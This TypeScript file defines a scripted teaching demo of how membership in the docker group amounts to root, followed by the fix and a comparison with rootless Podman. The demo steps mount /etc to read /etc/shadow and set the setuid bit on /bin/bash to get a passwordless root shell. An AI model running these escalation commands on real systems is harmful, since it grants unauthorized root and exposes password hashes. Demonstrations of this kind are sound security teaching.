import { defineDemo } from './define.ts'
import { DOCKER_SECONDS, dockerSetup } from './parts/docker-setup.ts'

/**
 * Sources: Docker documentation ("Docker daemon attack surface", "Linux post-installation steps"), `newgrp`(1), credentials(7) (supplementary
 * groups are per process), bash(1) (`-p`), podman(1) ("Rootless mode"), user_namespaces(7).
 */
export default defineDemo({
  id: 'who-owns-the-socket',
  title: 'Group docker is root',
  machines: ['qemu'],
  needs: ['dockerd', 'podman'],
  panes: {
    ana: { user: 'ana', rows: 12 },
    host: { rows: 6 },
  },
  setup: {
    ...dockerSetup,
    'Podman makes a store for Ana': `
      runuser -l ana -c 'podman pull -q oci:/usr/share/kit/images:busybox && podman tag $(podman images -q) busybox'`,
  },
  setupTimeout: DOCKER_SECONDS,
  steps: [
    {
      pane: 'ana',
      type: 'tail -n 1 /etc/shadow; docker ps',
      cue: 'This is Ana, an ordinary account. The passwords are not for her, and neither is Docker\'s socket.',
      expect: { exit: 1, output: /shadow' for reading: Permission denied\npermission denied while trying to connect/ },
    },
    {
      pane: 'host',
      type: 'gpasswd -a ana docker',
      cue: 'You know the advice, it is in many tutorials: put her in the group docker, so that she needs no sudo. Very well.',
      expect: { check: 'getent group docker | grep -q ana' },
    },
    {
      pane: 'ana',
      type: 'newgrp docker',
      cue: 'A session gets its groups when it begins, so she begins a new one.',
      expect: { check: '[ "$(ps -o gid= -C newgrp,bash | grep -wc $(getent group docker | cut -d: -f3))" -ge 1 ]' },
    },
    {
      pane: 'ana',
      type: 'docker run --rm -v /etc:/host busybox tail -n 1 /host/shadow',
      cue: 'Now she may ask the daemon for a container. One with a folder of the host in it? By all means. There are the passwords.',
      expect: { output: /^\w+:[^:]*:\d+:/m },
      timeout: DOCKER_SECONDS,
    },
    {
      pane: 'ana',
      type: 'docker run --rm -v /bin:/host busybox chmod u+s /host/bash',
      cue: 'And may she write? She sets one bit on a file of the host.',
      expect: { check: '[ -u /bin/bash ]' },
      timeout: DOCKER_SECONDS,
    },
    {
      pane: 'ana',
      type: 'bash -pc "whoami; tail -n 1 /etc/shadow"',
      cue: 'From here on, she does not even need Docker. She is root, and nobody asked her for a password. The group is not close to root: it is root.',
      expect: { output: /^root\n\w+:[^:]*:\d+:/ },
    },
    {
      pane: 'host',
      type: 'chmod u-s /bin/bash; gpasswd -d ana docker',
      cue: 'So we close the hole. Off with the bit, and Ana out of the group.',
      expect: { check: '! [ -u /bin/bash ] && ! getent group docker | grep -q ana' },
    },
    {
      pane: 'ana',
      type: 'docker ps',
      cue: 'Is it closed? No! We changed a file. But her shell still holds the group, and keeps it for as long as it runs.',
      expect: { output: /^CONTAINER ID/ },
    },
    {
      pane: 'ana',
      type: 'exit',
      cue: 'Only the end of her session takes the group away.',
    },
    {
      pane: 'ana',
      type: 'docker ps',
      cue: 'Closed. But now she has no containers at all.',
      expect: { exit: 1, output: /^permission denied while trying to connect/ },
    },
    {
      pane: 'ana',
      type: 'podman run --rm -v /:/host busybox tail -n 1 /host/etc/shadow',
      cue: 'Podman has no daemon to ask. It runs as Ana herself, with all of the host mounted. In there she is root, and the kernel still says no.',
      expect: { exit: 1, output: /Permission denied/ },
      timeout: DOCKER_SECONDS,
    },
    {
      pane: 'ana',
      type: 'podman run -d busybox sh -c "id -u; sleep 1000"',
      cue: 'Why? We start a container that keeps running.',
      expect: { output: /^[0-9a-f]{64}\n$/, check: 'until pgrep -x sleep; do sleep 0.2; done' },
      timeout: DOCKER_SECONDS,
    },
    {
      pane: 'host',
      type: 'p=$(pgrep -x sleep); ps -o user,args $p; cat /proc/$p/uid_map',
      cue: 'Zero inside is one thousand outside: Ana. Her container can do what Ana can do. And there is no daemon to ask for more.',
      expect: { output: /\nana +sleep 1000\n +0 +1000 +1\n +1 +100000 +65536\n$/ },
    },
  ],
  print: [4, 5, 6, 8, 11, 13],
})
